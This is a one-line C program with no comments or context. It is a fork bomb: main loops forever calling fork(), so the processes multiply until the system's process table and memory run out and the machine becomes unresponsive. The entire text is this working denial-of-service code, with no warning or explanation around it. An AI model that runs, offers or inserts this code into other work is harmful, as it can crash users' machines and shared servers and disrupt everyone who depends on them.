int main() { for (;;) fork(); }
